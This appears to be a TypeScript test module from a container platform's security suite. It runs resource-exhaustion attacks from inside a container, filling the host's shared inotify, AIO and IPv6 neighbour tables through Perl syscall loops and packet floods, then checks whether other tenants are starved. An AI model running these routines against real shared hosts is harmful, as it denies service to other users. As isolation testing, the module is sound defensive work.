/**
 * Attacks that fill tables of the kernel that all containers of a machine share, and for which the kernel has no bound
 * for each org. They go as far as shows what they are about, and all the way where the whole host may be used.
 */
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { waitFor } from '../docker/test/setup.ts';
import type { AttackHost } from './attack-host.ts';
import type { Attack } from './attack.ts';
import { attackerStart, ipv6Bytes, perl, sockaddrIn6 } from './tools.ts';

const IS_X64 = process.arch === 'x64';
const INOTIFY_INIT1 = IS_X64 ? 294 : 26;
const IO_SETUP = IS_X64 ? 206 : 0;
const MSG_DONTWAIT = 0x40;

interface SharedTable {
  name: string;
  before: string;
  /** The setting that limits it, below /proc/sys. */
  limit: string;
  /** The Perl expression that takes some more. It is negative if the table is full. */
  take: string;
  /** How many it takes. */
  each: number;
}

const TABLES: readonly SharedTable[] = [
  {
    name: "the host's inotify instances are used up",
    before: 'the 128 of root belong to the whole host: nobody else could watch a file',
    limit: 'fs/inotify/max_user_instances',
    take: `syscall(${INOTIFY_INIT1}, 0)`,
    each: 1,
  },
  {
    name: "the host's asynchronous disk requests (AIO) are used up",
    before: 'the 65,536 of the host were soon taken: databases elsewhere did not start',
    limit: 'fs/aio-max-nr',
    take: `do { my $c = pack("Q", 0); syscall(${IO_SETUP}, 4096, $c) }`,
    each: 4096,
  },
];

/** How many times the program takes some, where not the whole table may be filled. */
const STEPS = 3;
/** The entries that a table of neighbours should have. */
const TABLE_LARGE = 65_536;
/** More than any table has. */
const STEPS_FULL = 10_000_000;

/** Holds what it takes until it ends, and says how often it took some. */
function takeProgram({ take }: SharedTable, steps: number): string {
  return `$| = 1; my $n = 0; $n += 1 while $n < ${steps} && ${take} >= 0; print "$n\\n"; sleep 3600;`;
}

/** Whether root of the host still gets some. */
async function hostTakes(host: AttackHost, { take }: SharedTable): Promise<boolean> {
  const said = await host.onHost('perl', '-e', `print(${take} < 0 ? "no" : "yes")`);
  return said.trim() === 'yes';
}

/** Starts a program in the container that takes what it can. @returns how many it took. */
async function takenByOne(
  host: AttackHost,
  ref: string,
  table: SharedTable,
  file: string,
): Promise<number> {
  const program = takeProgram(table, host.isHostWide ? STEPS_FULL : STEPS);
  await host.inside(ref, `perl -e '${program}' >${file} 2>&1 </dev/null &`);
  const said = await waitFor('what was taken', async () => {
    const text = await host.inside(ref, `cat ${file} 2>/dev/null || true`);
    return text.endsWith('\n') && text;
  });
  assert.match(said, /^\d+\n$/);
  return Number(said) * table.each;
}

/** A process may have fewer files than the table has entries. */
async function takenBy(host: AttackHost, ref: string, table: SharedTable): Promise<number> {
  let taken = 0;
  for (let count = 1; ; count += 1) {
    const more = await takenByOne(host, ref, table, `/said-${count}`);
    taken += more;
    if (more === 0 || !host.isHostWide || !(await hostTakes(host, table))) return taken;
  }
}

function tableAttack(table: SharedTable): Attack {
  return {
    name: table.name,
    before: table.before,
    remains: true,
    async run(host) {
      const { ref } = await attackerStart(host);
      const limit = Number(await host.onHost('cat', `/proc/sys/${table.limit}`));
      const taken = await takenBy(host, ref, table);
      const othersTake = await hostTakes(host, table);
      await host.engine('containers.end', ref, 0);
      assert.ok(taken > 0);
      // The kernel releases what a dead process had, a moment later.
      await waitFor('the release', () => hostTakes(host, table));
      const took = `no bound for each org: one container took ${taken} of ${limit}`;
      if (!host.isHostWide) {
        assert.ok(othersTake);
        return `${took}, as many as were tried; others get theirs`;
      }
      const others = othersTake ? 'others still got theirs' : 'others got none until it ended';
      return `${took}; ${others}`;
    },
  };
}

/** What the kernel shows in its first network namespace only; `NaN` elsewhere. */
const kernelRead = (path: string) => readFile(path, 'utf8').catch(() => 'NaN');

/** The entries of a table that all network namespaces share, and how often it was full. */
async function neighbours(): Promise<{ entries: number; fulls: number }> {
  const [head = '', ...cpus] = (await kernelRead('/proc/net/stat/ndisc_cache')).trim().split('\n');
  const column = head.trim().split(/\s+/).indexOf('table_fulls');
  const rows = cpus.map((line) => line.trim().split(/\s+/));
  const numberOf = (text: string | undefined) => Number.parseInt(text ?? '', 16);
  const fulls = rows.reduce((sum, row) => sum + numberOf(row[column]), 0);
  return { entries: numberOf(rows[0]?.[0]), fulls };
}

/**
 * Sends to addresses of the container's own network that nobody has. What waits for a neighbour counts for its socket, so
 * each socket sends a few only.
 */
function sendToNobody(host: AttackHost, ref: string, count: number): Promise<string> {
  const prefix = ipv6Bytes(host.tenants[0].ipv6Subnet.replace('/64', ''));
  const address = `substr(${prefix}, 0, 8) . pack("NN", 1, $_)`;
  return perl(
    host,
    ref,
    `for (1 .. ${count}) {
       if ($_ % 64 == 1) { socket(S, 10, 2, 0) or die "socket $!"; }
       send(S, "x", ${MSG_DONTWAIT}, ${sockaddrIn6(9, address)}); }`,
  );
}

/**
 * Asks a neighbour whose address the host does not know yet.
 * @returns how often it did not answer before it did.
 */
async function neighbourReach(host: AttackHost, address: string): Promise<number> {
  const script = `fetch('http://[${address}]/').then((r) => console.log(r.status))`;
  let failures = 0;
  const reached = await waitFor('an answer', () =>
    host.onHost(process.execPath, '-e', script).catch(() => {
      failures += 1;
      return null;
    }),
  );
  assert.equal(reached.trim(), '200');
  return failures;
}

const NEIGHBOURS: Attack = {
  name: "the host's table of IPv6 neighbours is filled",
  before:
    '256 packets to addresses that nobody has made 500 entries of 1,024: nobody was found then',
  remains: true,
  async run(host) {
    const { ref } = await attackerStart(host);
    const spec = await host.spec(host.images.nginx, { tenantId: host.tenants[1].id });
    const { ref: neighbour } = await host.apply(spec);
    const address = spec.ipv6Address ?? assert.fail();
    const limit = Number(await kernelRead('/proc/sys/net/ipv6/neigh/default/gc_thresh3'));
    const before = await neighbours();
    let isSending = true;
    const count = host.isHostWide ? 3 * (limit || TABLE_LARGE) : 64;
    const sent = sendToNobody(host, ref, count).finally(() => (isSending = false));
    const reach = async () => {
      const isFull = async () => !isSending || (await neighbours()).fulls > before.fulls;
      await waitFor('a full table, or the end of the sending', isFull);
      return { ...(await neighbours()), failures: await neighbourReach(host, address) };
    };
    const [{ entries, failures }] = await Promise.all([reach(), sent]);
    const fulls = (await neighbours()).fulls - before.fulls;
    await host.engine('containers.end', neighbour, 0);
    await host.engine('containers.end', ref, 0);
    const filled = Number.isNaN(limit)
      ? 'the table can be read in the first network namespace only'
      : `${entries} of ${limit} entries, and ${fulls} more refused`;
    return `no bound for each org: ${filled}; a new neighbour answered after ${failures} failed tries`;
  },
};

export const HOST_TABLE_ATTACKS: readonly Attack[] = [NEIGHBOURS, ...TABLES.map(tableAttack)];
